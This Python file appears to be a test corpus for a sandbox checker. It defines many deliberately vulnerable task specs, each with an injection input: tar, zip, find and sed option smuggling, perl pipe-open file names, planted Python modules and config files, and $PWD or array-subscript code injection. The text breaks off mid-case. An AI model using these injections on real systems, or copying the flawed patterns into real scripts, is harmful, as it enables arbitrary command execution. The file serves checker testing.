"""The attack definitions (see attacks.py)."""


def define(add, PAY, PAY1, PYPAY, b64, zipb, tgzb):
    TAR_WORDS = ". --checkpoint=1 --checkpoint-action=exec=" + PAY1
    FIND_WORDS = ". -exec sh -c " + PAY1 + " ;"
    ZIP_WORDS = "/etc/debian_version -T --unzip-command=" + PAY1

    # ---------------- C1 split-word-option ----------------
    C = "split-word-option"
    W = "The arg cannot start with '-', but its unquoted split words can; a word after the first becomes an option of "
    add("tar-for-split", C, W + "tar (--checkpoint-action=exec runs a command).", """
name: NAME_ID
description: Bundle some files of the working directory into a gzip'd tarball kept with the run, and show its size.
args:
  files:
    type: string
    minLength: 1
    maxLength: 2000
    description: Space-separated file or folder names, relative to the working directory.
required: [files]
sandbox: {network: none}
steps:
  - name: bundle
    run: |
      members=()
      for f in $ARG_files; do
        members+=("$f")
      done
      tar -czf "$HARBOR_RUN_DIR/bundle.tgz" "${members[@]}"
      ls -l "$HARBOR_RUN_DIR/bundle.tgz"
""", {"files": TAR_WORDS})
    add("zip-read-ra", C, W + "zip (-T with --unzip-command runs a command).", """
name: NAME_ID
description: Zip the given paths into an archive in the run directory and test the archive.
args:
  paths:
    type: string
    pattern: "^[^-\\\\s].*$"
    maxLength: 2000
    description: Paths to include, separated by spaces (the first must not start with a dash).
required: [paths]
steps:
  - name: zip
    run: |
      read -ra items <<< "$ARG_paths"
      zip -q -r "$HARBOR_RUN_DIR/export.zip" "${items[@]}"
      echo "zipped ${#items[@]} path(s)"
""", {"paths": ZIP_WORDS})
    add("find-unquoted", C, W + "find (-exec runs a program).", """
name: NAME_ID
description: List recently changed log files under some folders of the working directory.
args:
  dirs:
    type: string
    default: "."
    maxLength: 1000
    description: Folders to look in, separated by spaces.
steps:
  - name: find
    run: |
      find $ARG_dirs -maxdepth 3 -type f -name '*.log' -mtime -2 -print | head -n 200
""", {"dirs": FIND_WORDS})
    add("tar-set-positional", C, W + "tar through \"$@\" after set --.", """
name: NAME_ID
description: Snapshot selected paths of the working directory as a tar file in the run directory.
args:
  targets:
    type: string
    minLength: 1
    maxLength: 2000
    description: Paths to snapshot, separated by spaces.
required: [targets]
steps:
  - name: snapshot
    run: |
      set -- $ARG_targets
      echo "snapshotting $# path(s)"
      tar -cf "$HARBOR_RUN_DIR/snapshot.tar" "$@"
""", {"targets": TAR_WORDS})
    add("sed-ifs-comma", C, W + "GNU sed, which permutes options: --expression with the e command runs a shell command.", """
name: NAME_ID
description: Show the first lines of each of a comma-separated list of files.
args:
  files:
    type: string
    minLength: 1
    maxLength: 2000
    description: Comma-separated file names.
  lines:
    type: integer
    minimum: 1
    maximum: 100
    default: 10
required: [files]
steps:
  - name: head
    run: |
      IFS=, read -ra list <<< "$ARG_files"
      sed -n '1,{{ args.lines }}p' "${list[@]}"
""", {"files": "/etc/debian_version,--expression=1e " + PAY})
    add("tar-function-args", C, W + "tar, through a helper function's \"$@\".", """
name: NAME_ID
description: Archive log folders of the working directory into the run directory.
args:
  paths:
    type: string
    default: logs
    maxLength: 1000
    description: Folders to archive, separated by spaces.
steps:
  - name: archive
    run: |
      archive() {
        local out=$1
        shift
        tar -czf "$out" "$@"
      }
      archive "$HARBOR_RUN_DIR/logs.tgz" $ARG_paths
""", {"paths": TAR_WORDS})
    add("find-array-split", C, W + "find via an array built by splitting.", """
name: NAME_ID
description: List the folders directly under some roots of the working directory.
args:
  roots:
    type: string
    default: "."
    maxLength: 1000
    description: Root folders separated by spaces.
steps:
  - name: list
    run: |
      roots=($ARG_roots)
      find "${roots[@]}" -maxdepth 1 -type d -printf '%p/\\n' | sort | head -n 500
""", {"roots": FIND_WORDS})
    add("zip-for-pattern", C, W + "zip; the pattern only pins the first character.", """
name: NAME_ID
description: Package documentation files into docs.zip (in the run directory) and verify it.
args:
  files:
    type: string
    pattern: "^[A-Za-z0-9_./][^\\\\n]*$"
    maxLength: 2000
    description: Files to package, separated by spaces.
required: [files]
steps:
  - name: package
    run: |
      list=()
      for f in $ARG_files; do list+=("$f"); done
      zip -q "$HARBOR_RUN_DIR/docs.zip" "${list[@]}"
      unzip -l "$HARBOR_RUN_DIR/docs.zip" | tail -n 1
""", {"files": ZIP_WORDS})
    add("tar-mapfile-d-space", C, W + "tar, through mapfile -d ' '.", """
name: NAME_ID
description: Create a tarball of the named folders for download.
args:
  folders:
    type: string
    minLength: 1
    maxLength: 2000
    description: Folder names separated by single spaces.
required: [folders]
steps:
  - name: tar
    run: |
      mapfile -t -d ' ' folders < <(printf '%s' "$ARG_folders")
      tar -czf "$HARBOR_RUN_DIR/folders.tgz" "${folders[@]}"
      du -h "$HARBOR_RUN_DIR/folders.tgz"
""", {"folders": TAR_WORDS})

    # ---------------- C2 multiline-line-option ----------------
    C = "multiline-line-option"
    W = "Only the first character of a multiline value is held to the no-leading-dash rule; a later line becomes an option of "
    TAR_LINES = ".\n--checkpoint=1\n--checkpoint-action=exec=" + PAY
    add("tar-mapfile-lines", C, W + "tar.", """
name: NAME_ID
description: Bundle the listed files (one per line) into a tarball kept with the run.
args:
  files:
    type: string
    multiline: true
    maxLength: 10000
    description: File names, one per line.
required: [files]
steps:
  - name: bundle
    run: |
      mapfile -t members <<< "$ARG_files"
      tar -czf "$HARBOR_RUN_DIR/bundle.tgz" "${members[@]}"
      echo "bundled ${#members[@]} entries"
""", {"files": TAR_LINES})
    add("zip-while-read", C, W + "zip.", """
name: NAME_ID
description: Zip the listed paths (one per line) and test the archive.
args:
  paths:
    type: string
    multiline: true
    maxLength: 10000
    description: Paths, one per line.
required: [paths]
steps:
  - name: zip
    run: |
      list=()
      while IFS= read -r p; do
        [ -n "$p" ] && list+=("$p")
      done <<< "$ARG_paths"
      zip -q "$HARBOR_RUN_DIR/files.zip" "${list[@]}"
""", {"paths": "/etc/debian_version\n-T\n--unzip-command=" + PAY})
    add("find-xargs-d", C, W + "find (items of xargs -d '\\n').", """
name: NAME_ID
description: List every file under the given folders (one folder per line).
args:
  dirs:
    type: string
    multiline: true
    maxLength: 5000
    description: Folders, one per line.
required: [dirs]
steps:
  - name: list
    run: |
      printf '%s\\n' "$ARG_dirs" | xargs -r -d '\\n' find | head -n 1000
""", {"dirs": ".\n-exec\nsh\n-c\n" + PAY + "\n;"})
    add("sed-readarray", C, W + "GNU sed (--expression with e).", """
name: NAME_ID
description: Print the first five lines of each listed file.
args:
  files:
    type: string
    multiline: true
    maxLength: 5000
    description: Files, one per line.
required: [files]
steps:
  - name: head
    run: |
      readarray -t files <<< "$ARG_files"
      sed -n '1,5p' "${files[@]}"
""", {"files": "/etc/debian_version\n--expression=1e " + PAY})
    add("tar-xargs-d", C, W + "tar (items of xargs -d '\\n').", """
name: NAME_ID
description: Archive the listed files (one per line) into the run directory.
args:
  files:
    type: string
    multiline: true
    maxLength: 10000
required: [files]
steps:
  - name: archive
    run: |
      printf '%s\\n' "$ARG_files" | xargs -r -d '\\n' tar -czf "$HARBOR_RUN_DIR/files.tgz"
""", {"files": TAR_LINES})
    add("find-procsub-read", C, W + "find.", """
name: NAME_ID
description: Count the files under each listed folder.
args:
  folders:
    type: string
    multiline: true
    maxLength: 5000
required: [folders]
steps:
  - name: count
    run: |
      roots=()
      while IFS= read -r line; do roots+=("$line"); done < <(printf '%s\\n' "$ARG_folders")
      find "${roots[@]}" -type f | wc -l
""", {"folders": ".\n-exec\nsh\n-c\n" + PAY + " >&2\n;"})
    add("zip-finally-lines", C, W + "zip, in a finally: step.", """
name: NAME_ID
description: Record a list of artifacts and always package them into artifacts.zip at the end.
args:
  artifacts:
    type: string
    multiline: true
    maxLength: 10000
    description: Artifact paths, one per line.
required: [artifacts]
steps:
  - name: record
    run: printf '%s\\n' "$ARG_artifacts" | wc -l
finally:
  - name: package
    run: |
      mapfile -t arts <<< "$ARG_artifacts"
      zip -q "$HARBOR_RUN_DIR/artifacts.zip" "${arts[@]}" || true
""", {"artifacts": "/etc/debian_version\n-T\n--unzip-command=" + PAY})

    # ---------------- C3 item-whitespace-or-object ----------------
    C = "item-trim-or-object-dash"
    add("array-leading-space-read", C, "Array items are refused only when they START with '-'; ' --x' passes and read -r trims the blank, so tar gets an option.", """
name: NAME_ID
description: Bundle a list of files into a tarball kept with the run.
args:
  files:
    type: array
    items: {type: string, maxLength: 500}
    maxItems: 100
    description: File names relative to the working directory.
required: [files]
steps:
  - name: bundle
    run: |
      members=()
      while read -r f; do members+=("$f"); done < <(jq -r '.[]' <<< "$ARG_files")
      tar -czf "$HARBOR_RUN_DIR/bundle.tgz" "${members[@]}"
""", {"files": [".", " --checkpoint=1", " --checkpoint-action=exec=" + PAY]})
    add("object-include-tar", C, "Objects are not looked into by the leading-dash rule: an include list inside an object reaches tar as options.", """
name: NAME_ID
description: Build a source tarball from a small spec ({name, include[]}).
args:
  spec:
    type: object
    properties:
      name: {type: string, pattern: "^[a-z0-9-]+$"}
      include: {type: array, items: {type: string}}
    required: [name, include]
required: [spec]
steps:
  - name: tar
    run: |
      name=$(jq -r '.name' <<< "$ARG_spec")
      mapfile -t inc < <(jq -r '.include[]' <<< "$ARG_spec")
      tar -czf "$HARBOR_RUN_DIR/$name.tgz" "${inc[@]}"
""", {"spec": {"name": "src", "include": [".", "--checkpoint=1", "--checkpoint-action=exec=" + PAY]}})
    add("object-paths-zip", C, "Object properties skip the leading-dash rule; its paths reach zip as -T/--unzip-command.", """
name: NAME_ID
description: Package a release from a manifest object {version, paths[]}.
args:
  manifest:
    type: object
    properties:
      version: {type: string}
      paths: {type: array, items: {type: string}}
required: [manifest]
steps:
  - name: package
    run: |
      mapfile -t paths < <(jq -r '.paths[]' <<< "$ARG_manifest")
      zip -q "$HARBOR_RUN_DIR/release.zip" "${paths[@]}"
      echo "packaged $(jq -r .version <<< "$ARG_manifest")"
""", {"manifest": {"version": "1.0", "paths": ["/etc/debian_version", "-T", "--unzip-command=" + PAY]}})
    add("object-roots-find", C, "Object properties skip the leading-dash rule; roots reach find as -exec.", """
name: NAME_ID
description: Search a project layout given as {roots[], name} for files with that name.
args:
  query:
    type: object
    properties:
      roots: {type: array, items: {type: string}}
      name: {type: string}
required: [query]
steps:
  - name: find
    run: |
      mapfile -t roots < <(jq -r '.roots[]' <<< "$ARG_query")
      name=$(jq -r '.name' <<< "$ARG_query")
      find "${roots[@]}" -name "$name" -print | head -n 100
""", {"query": {"roots": [".", "-exec", "sh", "-c", PAY, ";"], "name": "x"}})
    add("array-xargs-blank", C, "xargs strips leading blanks of each item: ' -T' passes validation and reaches zip as -T.", """
name: NAME_ID
description: Zip a list of files and test the archive.
args:
  paths:
    type: array
    items: {type: string}
    maxItems: 50
required: [paths]
steps:
  - name: zip
    run: |
      jq -r '.[]' <<< "$ARG_paths" | xargs zip -q "$HARBOR_RUN_DIR/bundle.zip"
""", {"paths": ["/etc/debian_version", " -T", " --unzip-command=" + PAY1]})
    add("object-multiline-sed", C, "A string inside an object may hold line breaks and dashes: its lines reach sed as --expression with e.", """
name: NAME_ID
description: Preview files described by a request object {files (one per line), lines}.
args:
  request:
    type: object
    properties:
      files: {type: string}
      lines: {type: integer, minimum: 1}
required: [request]
steps:
  - name: preview
    run: |
      mapfile -t files < <(jq -r '.files' <<< "$ARG_request")
      n=$(jq -r '.lines // 5' <<< "$ARG_request")
      sed -n "1,${n}p" "${files[@]}"
""", {"request": {"files": "/etc/debian_version\n--expression=1e " + PAY, "lines": 3}})

    # ---------------- C4 cwd-module-plant ----------------
    C = "cwd-module-plant"
    W = "The caller names a file written in the working directory (json.py etc.); a later python3 -c/-m there imports it from sys.path[0]=''. "
    add("note-json", C, W + "printf > name, then python3 -c 'import json'.", """
name: NAME_ID
description: Save a short note as a file in the working directory and report its size as JSON.
args:
  name:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    description: File name for the note (inside the working directory).
  content:
    type: string
    maxLength: 4000
    description: The note's text (one line).
required: [name, content]
steps:
  - name: save
    run: printf '%s\\n' "$ARG_content" > "$ARG_name"
  - name: report
    run: |
      python3 -c 'import json, os, sys; print(json.dumps({"saved": sys.argv[1], "bytes": os.path.getsize(sys.argv[1])}))' "$ARG_name"
""", {"name": "json.py", "content": PYPAY})
    add("upload-json-tool", C, W + "cp of an attachment, then python3 -m json.tool.", """
name: NAME_ID
description: Store an uploaded JSON document in the working directory and pretty-print it.
args:
  document:
    type: string
    contentEncoding: base64
    contentMediaType: application/json
    description: The JSON document (base64).
  dest:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    default: document.json
required: [document]
steps:
  - name: store
    run: cp -- "$ARG_document" "$ARG_dest"
  - name: show
    run: python3 -m json.tool "$ARG_dest"
""", {"document": b64(PYPAY + "\n"), "dest": "json.py"})
    add("csv-tee", C, W + "tee, then python3 -c 'import csv'.", """
name: NAME_ID
description: Save CSV text to a file in the working directory and count its rows.
args:
  csv:
    type: string
    multiline: true
    maxLength: 100000
  name:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    default: data.csv
required: [csv]
steps:
  - name: save
    run: printf '%s\\n' "$ARG_csv" | tee -- "$ARG_name" > /dev/null
  - name: rows
    run: python3 -c 'import csv, sys; print(sum(1 for _ in csv.reader(open(sys.argv[1]))), "rows")' "$ARG_name"
""", {"csv": PYPAY, "name": "csv.py"})
    add("install-statistics", C, W + "install(1) of an attachment, then python3 -c 'import statistics'.", """
name: NAME_ID
description: Store an uploaded list of numbers and print their mean and median.
args:
  numbers:
    type: string
    contentEncoding: base64
    contentMediaType: text/plain
  name:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    default: numbers.txt
required: [numbers]
steps:
  - name: store
    run: install -m 0644 -- "$ARG_numbers" "$ARG_name"
  - name: stats
    run: |
      python3 -c 'import statistics, sys; xs = [float(l) for l in open(sys.argv[1]) if l.strip()]; print(statistics.mean(xs), statistics.median(xs))' "$ARG_name"
""", {"numbers": b64(PYPAY + "\n"), "name": "statistics.py"})
    add("mv-textwrap", C, W + "mv from the run directory, then python3 -c 'import textwrap'.", """
name: NAME_ID
description: Draft a message in the run directory, publish it into the working directory and show a summary.
args:
  message: {type: string, maxLength: 2000}
  publish_as:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    default: MESSAGE.txt
required: [message]
steps:
  - name: publish
    run: |
      printf '%s\\n' "$ARG_message" > "$HARBOR_RUN_DIR/draft.txt"
      mv -- "$HARBOR_RUN_DIR/draft.txt" "$ARG_publish_as"
      python3 -c 'import sys, textwrap; print(textwrap.shorten(open(sys.argv[1]).read(), 120))' "$ARG_publish_as"
""", {"message": PYPAY, "publish_as": "textwrap.py"})
    add("sort-o-hashlib", C, W + "sort -o, then python3 -c 'import hashlib'.", """
name: NAME_ID
description: Sort and de-duplicate an uploaded word list into the working directory, then print its SHA-256.
args:
  words:
    type: string
    contentEncoding: base64
    contentMediaType: text/plain
  out:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    default: words.txt
required: [words]
steps:
  - name: sort
    run: sort -u -o "$ARG_out" -- "$ARG_words"
  - name: digest
    run: python3 -c 'import hashlib, sys; print(hashlib.sha256(open(sys.argv[1], "rb").read()).hexdigest())' "$ARG_out"
""", {"words": b64(PYPAY + "\n"), "out": "hashlib.py"})
    add("finally-shutil", C, W + "A finally: step imports calendar.", """
name: NAME_ID
description: Write a scratch file into the working directory; always print the finishing time (epoch seconds) at the end.
args:
  file:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
  text: {type: string, maxLength: 4000}
required: [file, text]
steps:
  - name: write
    run: printf '%s\\n' "$ARG_text" > "$ARG_file"
finally:
  - name: space
    run: |
      python3 -c 'import calendar, time; print("finished", calendar.timegm(time.gmtime()))'
""", {"file": "calendar.py", "text": PYPAY})
    add("unzip-json-tool", C, "An uploaded zip is unpacked into the working directory (json.py among its members); python3 -m json.tool then imports it.", """
name: NAME_ID
description: Unpack an uploaded site bundle into the working directory and pretty-print its manifest.json.
args:
  bundle:
    type: string
    contentEncoding: base64
    contentMediaType: application/zip
required: [bundle]
steps:
  - name: unpack
    run: unzip -o -q -- "$ARG_bundle"
  - name: manifest
    run: python3 -m json.tool manifest.json
""", {"bundle": b64(zipb({"json.py": PYPAY + "\n", "manifest.json": "{}\n"}))})
    add("tar-x-csv", C, "An uploaded tarball is extracted into the working directory (csv.py among its members); python3 -c 'import csv' imports it.", """
name: NAME_ID
description: Extract an uploaded data tarball and count the rows of data.csv.
args:
  tarball:
    type: string
    contentEncoding: base64
    contentMediaType: application/gzip
required: [tarball]
steps:
  - name: extract
    run: tar -xzf "$ARG_tarball"
  - name: count
    run: python3 -c 'import csv; print(sum(1 for _ in csv.reader(open("data.csv"))))'
""", {"tarball": b64(tgzb({"csv.py": PYPAY + "\n", "data.csv": "a,b\n"}))})
    add("base64-tarfile-m", C, W + "base64 -d > name, then python3 -m tarfile runs the planted tarfile.py.", """
name: NAME_ID
description: Decode a base64 tar archive given inline, save it in the working directory and list its members.
args:
  data: {type: string, maxLength: 1000000, pattern: "^[A-Za-z0-9+/=]+$"}
  name:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
    default: upload.tar
required: [data]
steps:
  - name: decode
    run: base64 -d <<< "$ARG_data" > "$ARG_name"
  - name: list
    run: python3 -m tarfile -l "$ARG_name"
""", {"data": b64(PYPAY + "\n"), "name": "tarfile.py"})

    # ---------------- C5 cwd-config-plant ----------------
    C = "cwd-config-plant"
    add("gnumakefile-make", C, "A caller-named file in the working directory can be GNUmakefile, which make reads before Makefile; the later literal 'make' (no caller data) runs its recipe.", """
name: NAME_ID
description: Save a documentation page into the working directory and rebuild the docs with make.
args:
  page:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
  content:
    type: string
    multiline: true
    maxLength: 100000
required: [page, content]
steps:
  - name: save
    run: printf '%s\\n' "$ARG_content" > "$ARG_page"
  - name: build
    run: make -s html
""", {"page": "GNUmakefile", "content": "%:\n\t@echo HARBOR-PWNED-$$((6*7))"})
    add("dotenv-source", C, "The caller writes ./.env; the next step sources the literal ./.env (the author's file, to the checker), so $(...) in it runs.", """
name: NAME_ID
description: Write a settings file in the working directory, then show the effective APP_ENV from .env.
args:
  file:
    type: string
    pattern: "^[A-Za-z0-9_.][A-Za-z0-9_.-]*$"
    within: "."
    default: settings.env
  content:
    type: string
    maxLength: 4000
required: [content]
steps:
  - name: write
    run: printf '%s\\n' "$ARG_content" > "$ARG_file"
  - name: effective
    run: |
      if [ -f .env ]; then
        set -a
        . ./.env
        set +a
      fi
      printf 'APP_ENV=%s\\n' "${APP_ENV:-development}"
""", {"file": ".env", "content": "APP_ENV=$(echo HARBOR-PWNED-$((6*7)) >&2)"})
    add("post-save-hook", C, "The caller's path (with mkdir -p of its folder) can be the optional hook .harbor/post-save.sh that the next step runs by literal path.", """
name: NAME_ID
description: Save an uploaded file to a path in the working directory, then run the site's optional post-save hook.
args:
  file:
    type: string
    contentEncoding: base64
  path:
    type: string
    within: "."
    maxLength: 500
required: [file, path]
steps:
  - name: save
    run: |
      mkdir -p -- "$(dirname -- "$ARG_path")"
      cp -- "$ARG_file" "$ARG_path"
  - name: hook
    run: |
      if [ -f .harbor/post-save.sh ]; then bash .harbor/post-save.sh; fi
""", {"file": b64(PAY + "\n"), "path": ".harbor/post-save.sh"})
    add("node-modules-require", C, "The caller's path can be node_modules/semver.js in the working directory; node -e 'require(\"semver\")' loads it.", """
name: NAME_ID
description: Store an uploaded file in the working directory and print the project's semantic version check.
args:
  file:
    type: string
    contentEncoding: base64
  path:
    type: string
    within: "."
    maxLength: 500
required: [file, path]
steps:
  - name: store
    run: |
      mkdir -p -- "$(dirname -- "$ARG_path")"
      cp -- "$ARG_file" "$ARG_path"
  - name: version
    run: node -e 'const semver = require("semver"); console.log(semver.valid("1.2.3"))'
""", {"file": b64('require("child_process").execSync("' + PAY + '", {stdio: "inherit"});\n'), "path": "node_modules/semver.js"})
    add("tar-x-make", C, "An uploaded docs tarball extracted in the working directory can carry a GNUmakefile; the literal 'make html' runs it.", """
name: NAME_ID
description: Unpack an uploaded documentation tarball into the working directory and build the HTML.
args:
  docs:
    type: string
    contentEncoding: base64
    contentMediaType: application/gzip
required: [docs]
steps:
  - name: unpack
    run: tar -xzf "$ARG_docs"
  - name: build
    run: make -s html
""", {"docs": b64(tgzb({"GNUmakefile": "html:\n\t@echo HARBOR-PWNED-$$((6*7))\n"}))})
    add("package-json-npm", C, "The caller's upload can be saved as package.json; the literal 'npm run lint' runs its scripts.lint.", """
name: NAME_ID
description: Save an uploaded file in the working directory and run the project's lint script.
args:
  file:
    type: string
    contentEncoding: base64
  name:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    within: "."
required: [file, name]
steps:
  - name: save
    run: cp -- "$ARG_file" "$ARG_name"
  - name: lint
    run: npm run --silent lint
""", {"file": b64('{"scripts": {"lint": "' + PAY + '"}}\n'), "name": "package.json"})
    add("unzip-dotenv", C, "An uploaded zip unpacked in the working directory can carry .env; the literal '. ./.env' runs its $(...).", """
name: NAME_ID
description: Unpack an uploaded config bundle and print the resulting service name.
args:
  bundle:
    type: string
    contentEncoding: base64
    contentMediaType: application/zip
required: [bundle]
steps:
  - name: unpack
    run: unzip -o -q -- "$ARG_bundle"
  - name: show
    run: |
      [ -f .env ] && . ./.env
      echo "service: ${SERVICE_NAME:-unknown}"
""", {"bundle": b64(zipb({".env": "SERVICE_NAME=$(echo HARBOR-PWNED-$((6*7)) >&2)\n"}))})

    # ---------------- C6 perl-open-magic ----------------
    C = "perl-argv-open-magic"
    W = "perl's implicit <> (here via %s) opens @ARGV with 2-argument open: a file name ending in '|' is run as a shell command. The flag is not in the program text the checker reads."
    PF = PAY + " >&2|"
    FILE_ARG = """
  file:
    type: string
    within: "."
    maxLength: 4096
    description: A text file inside the working directory."""
    for slug, via, desc, cmd in [
        ("perl-ne", "-n", "Print the non-blank lines of a text file.", "perl -ne 'print if /\\S/' \"$ARG_file\""),
        ("perl-pe", "-p", "Convert a file's CRLF line endings to LF and print it.", "perl -pe 's/\\r$//' \"$ARG_file\""),
        ("perl-lane", "-lan", "Print the first whitespace-separated column of a file.", "perl -lane 'print $F[0]' \"$ARG_file\""),
        ("perl-0777", "-0777 -n", "Count the newlines of a file.", "perl -0777 -ne 'print scalar(() = /\\n/g), \"\\n\"' \"$ARG_file\""),
        ("perl-argv-handle", "<ARGV>", "Number the lines of a file.", "perl -e 'while (<ARGV>) { print \"$.: $_\" }' \"$ARG_file\""),
        ("perl-readline", "readline(ARGV)", "Count the lines of a file.", "perl -e 'my $n = 0; $n++ while defined readline(ARGV); print \"$n\\n\"' \"$ARG_file\""),
        ("perl-nle-dashdash", "-n after --", "Print the length of each line of a file.", "perl -nle 'print length' -- \"$ARG_file\""),
    ]:
        add(slug, C, W % via, """
name: NAME_ID
description: %s
args:%s
required: [file]
steps:
  - name: perl
    run: %s
""" % (desc, FILE_ARG, cmd.replace("\\", "\\\\").replace('"', '\\"').join('""')), {"file": PF})
    add("perl-two-files", C, W % "-n with two operands", """
name: NAME_ID
description: Merge two text files, keeping the first occurrence of each line.
args:
  first: {type: string, within: ".", maxLength: 4096}
  second: {type: string, within: ".", maxLength: 4096}
required: [first, second]
steps:
  - name: merge
    run: |
      perl -ne 'print unless $seen{$_}++' "$ARG_first" "$ARG_second"
""", {"first": "/dev/null" if False else ".", "second": PF})
    add("perl-argv-step", C, W % "-n in an argv: step", """
name: NAME_ID
description: Show the first 20 lines of a file.
args:%s
required: [file]
steps:
  - name: head
    argv: [perl, -ne, "print if $. <= 20", "{{ args.file }}"]
""" % FILE_ARG, {"file": PF})
    add("perl-array-files", C, W % "-n over an array arg", """
name: NAME_ID
description: Concatenate several text files, dropping comment lines.
args:
  files:
    type: array
    items: {type: string, within: "."}
    maxItems: 20
required: [files]
steps:
  - name: cat
    run: |
      mapfile -t files < <(jq -r '.[]' <<< "$ARG_files")
      perl -ne 'print unless /^\\s*#/' -- "${files[@]}"
""", {"files": [PF]})

    # ---------------- C7 pwd-as-clean ----------------
    C = "cwd-path-as-clean"
    W = "After cd into a caller-named (created) folder, $PWD/$(pwd) carry the caller's folder name; the script splices it into "
    DIRARG = """
  dir:
    type: string
    within: "."
    maxLength: 255
    description: The project folder (created if missing) inside the working directory."""
    add("pwd-sed-e", C, W + "a sed program (s|..|$PWD| then ;e runs a command).", """
name: NAME_ID
description: Initialise a site folder with a config file whose root is the folder's absolute path.
args:%s
required: [dir]
steps:
  - name: init
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      printf 'root=@ROOT@\\nname=site\\n' > site.conf
      sed -i "s|@ROOT@|$PWD|" site.conf
      cat site.conf
""" % DIRARG, {"dir": "x|;e " + PAY + " #"})
    add("pwd-awk", C, W + "an awk program (system()).", """
name: NAME_ID
description: Create a project folder and list its files with absolute paths.
args:%s
required: [dir]
steps:
  - name: list
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      touch .keep
      ls -A1 | awk "{ print \\"$(pwd)/\\" \\$0 }"
""" % DIRARG, {"dir": 'x", system("' + PAY + '"), "'})
    add("pwd-python", C, W + "a python3 -c program.", """
name: NAME_ID
description: Create a folder and print its contents as seen from its absolute path.
args:%s
required: [dir]
steps:
  - name: show
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      python3 -c "import os; root = '$(pwd)'; print(root, sorted(os.listdir(root)))"
""" % DIRARG, {"dir": "x'+str(__import__('os').system('" + PAY + "'))+'"})
    add("oldpwd-perl", C, "After cd into a caller-named folder and cd -, $OLDPWD carries its name; it is spliced into a perl -e program.", """
name: NAME_ID
description: Stamp a folder with a .stamp file and report which folder was stamped.
args:%s
required: [dir]
steps:
  - name: stamp
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      date -u +%%FT%%TZ > .stamp
      cd - > /dev/null
      perl -e "print qq{stamped $OLDPWD\\n}"
""" % DIRARG, {"dir": "x}; system(q{" + PAY + "}); print q{"})
    add("pwd-basename-sed", C, W + "sed as ${PWD##*/} (a rewrite of a value the checker thinks is the author's).", """
name: NAME_ID
description: Render an index page titled with the project folder's name.
args:%s
required: [dir]
steps:
  - name: render
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      name=${PWD##*/}
      printf '<h1>@NAME@</h1>\\n' | sed "s|@NAME@|$name|"
""" % DIRARG, {"dir": "x|;e " + PAY + " #"})
    add("pwd-basename-node", C, W + "a node -e program, through $(basename \"$PWD\").", """
name: NAME_ID
description: Print the project name derived from its folder.
args:%s
required: [dir]
steps:
  - name: name
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      node -e "console.log('project: $(basename "$PWD")')"
""" % DIRARG, {"dir": "x'+require('child_process').execSync('" + PAY + "')+'"})
    add("pwd-P-python", C, W + "python3 -c, through $(pwd -P) (a 'pure' command).", """
name: NAME_ID
description: Resolve a folder's physical path and print its size on disk.
args:%s
required: [dir]
steps:
  - name: size
    run: |
      mkdir -p -- "$ARG_dir"
      cd -- "$ARG_dir"
      here=$(pwd -P)
      python3 -c "import os; p = r'$here'; print(p, sum(os.path.getsize(os.path.join(p, f)) for f in os.listdir(p)))"
""" % DIRARG, {"dir": "x'+str(__import__('os').system('" + PAY + "'))+r'"})
    add("dirs-awk", C, "pushd into a caller-named folder; $(dirs -l +0) carries its name into an awk program.", """
name: NAME_ID
description: Enter a workspace folder and print a header with its full path.
args:%s
required: [dir]
steps:
  - name: header
    run: |
      mkdir -p -- "$ARG_dir"
      pushd -- "$ARG_dir" > /dev/null
      top=$(dirs -l +0)
      awk "BEGIN { print \\"workspace: $top\\" }"
""" % DIRARG, {"dir": 'x", system("' + PAY + '"), "'})

    # ---------------- C8 assoc-key-reeval ----------------
    C = "assoc-subscript-reeval"
    W = "Keys of an associative array come from the caller; bash re-expands a subscript given by text to %s, so $(...) in a key runs."
    TAGS = ["release", "$(" + PAY + " >&2)"]
    add("printf-v-assoc", C, W % "printf -v", """
name: NAME_ID
description: Count how often each tag occurs in a list and print zero-padded counts.
args:
  tags:
    type: array
    items: {type: string, maxLength: 100}
    maxItems: 500
required: [tags]
steps:
  - name: count
    run: |
      declare -A count=()
      while IFS= read -r tag; do
        count[$tag]=$(( ${count[$tag]:-0} + 1 ))
      done < <(jq -r '.[]' <<< "$ARG_tags")
      for t in "${!count[@]}"; do printf -v "count[$t]" '%03d' "${count[$t]}"; done
      for t in "${!count[@]}"; do printf '%s %s\\n' "${count[$t]}" "$t"; done | sort -r
""", {"tags": TAGS})
    add("unset-assoc", C, W % "unset", """
name: NAME_ID
description: Report the non-empty entries of a key/value object (empty values are dropped).
args:
  values:
    type: object
    additionalProperties: {type: string}
required: [values]
steps:
  - name: report
    run: |
      declare -A vals=()
      while IFS=$'\\t' read -r k v; do vals[$k]=$v; done < <(jq -r 'to_entries[] | [.key, .value] | @tsv' <<< "$ARG_values")
      for k in "${!vals[@]}"; do
        if [ -z "${vals[$k]}" ]; then unset "vals[$k]"; fi
      done
      echo "${#vals[@]} non-empty value(s)"
""", {"values": {"a": "1", "$(" + PAY + " >&2)": ""}})
    add("test-v-assoc", C, W % "test -v", """
name: NAME_ID
description: Show which of the requested hosts are not in the allowed list.
args:
  hosts:
    type: array
    items: {type: string, maxLength: 253}
required: [hosts]
steps:
  - name: check
    run: |
      declare -A allowed=([web1]=1 [web2]=1 [db1]=1)
      declare -A asked=()
